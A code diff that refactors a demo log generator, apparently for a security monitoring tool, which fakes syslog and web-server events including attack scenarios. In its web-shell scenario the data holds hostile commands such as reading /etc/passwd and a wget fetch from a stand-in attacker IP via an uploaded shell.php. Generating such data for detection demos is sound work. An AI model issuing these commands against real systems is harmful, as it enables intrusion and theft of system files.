@@ -21,7 +21,15 @@ function pick<T>(random: Random, choices: readonly T[]): T {
   return choices[Math.floor(random() * choices.length)] as T;
 }
 
-function syslog(at: Date, host: string, program: string, pid: number, message: string): DemoEvent {
+interface Line {
+  readonly at: Date;
+  readonly host: string;
+  readonly program: string;
+  readonly pid: number;
+  readonly message: string;
+}
+
+function syslog({ at, host, program, pid, message }: Line): DemoEvent {
   return {
     timestamp: at.toISOString(),
     hostname: host,
@@ -34,7 +42,7 @@ function syslog(at: Date, host: string, program: string, pid: number, message: s
 }
 
 function sshd(random: Random, at: Date, host: string, message: string): DemoEvent {
-  return syslog(at, host, 'sshd', 2_000 + Math.floor(random() * 30_000), message);
+  return syslog({ at, host, program: 'sshd', pid: 2_000 + Math.floor(random() * 30_000), message });
 }
 
 function port(random: Random): number {
@@ -60,26 +68,39 @@ const ordinaryKinds: readonly Ordinary[] = [
       'vpn-gw-1',
       `Failed password for ${pick(random, PEOPLE)} from ${colleague(random)} port ${port(random)} ssh2`,
     ),
-  (random, at) => syslog(at, pick(random, HOSTS), 'CRON', port(random), '(root) CMD (/usr/local/bin/rotate-logs)'),
   (random, at) =>
-    syslog(
+    syslog({
       at,
-      'build-07',
-      'sudo',
-      port(random),
-      `${pick(random, PEOPLE)} : TTY=pts/1 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/systemctl reload app`,
-    ),
+      host: pick(random, HOSTS),
+      program: 'CRON',
+      pid: port(random),
+      message: '(root) CMD (/usr/local/bin/rotate-logs)',
+    }),
   (random, at) =>
-    webRequest(
+    syslog({
       at,
-      pick(random, ['web-01', 'web-02']),
-      stranger(random),
-      pick(random, PAGES),
-      random() < 0.95 ? 200 : 404,
-    ),
+      host: 'build-07',
+      program: 'sudo',
+      pid: port(random),
+      message: `${pick(random, PEOPLE)} : TTY=pts/1 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/systemctl reload app`,
+    }),
+  (random, at) =>
+    webRequest(at, {
+      host: pick(random, ['web-01', 'web-02']),
+      from: stranger(random),
+      uri: pick(random, PAGES),
+      status: random() < 0.95 ? 200 : 404,
+    }),
 ];
 
-function webRequest(at: Date, host: string, from: string, uri: string, status: number): DemoEvent {
+interface WebRequest {
+  readonly host: string;
+  readonly from: string;
+  readonly uri: string;
+  readonly status: number;
+}
+
+function webRequest(at: Date, { host, from, uri, status }: WebRequest): DemoEvent {
   return {
     timestamp: at.toISOString(),
     hostname: host,
@@ -145,10 +166,17 @@ function webShell(random: Random): ((at: Date) => DemoEvent[])[] {
   const from = stranger(random);
   const commands = ['id', 'uname -a', 'cat /etc/passwd', 'wget http://198.51.100.99/x'];
   return commands.map((command) => (at) => [
-    webRequest(at, 'web-01', from, `/uploads/shell.php?cmd=${encodeURIComponent(command)}`, 200),
+    webRequest(at, { host: 'web-01', from, uri: `/uploads/shell.php?cmd=${encodeURIComponent(command)}`, status: 200 }),
   ]);
 }
 
 function sniffer(): ((at: Date) => DemoEvent[])[] {
-  return [(at) => [{ ...syslog(at, 'db-01', 'kernel', 0, 'device eth0 entered promiscuous mode'), facility: 'kern' }]];
+  return [
+    (at) => [
+      {
+        ...syslog({ at, host: 'db-01', program: 'kernel', pid: 0, message: 'device eth0 entered promiscuous mode' }),
+        facility: 'kern',
+      },
+    ],
+  ];
 }
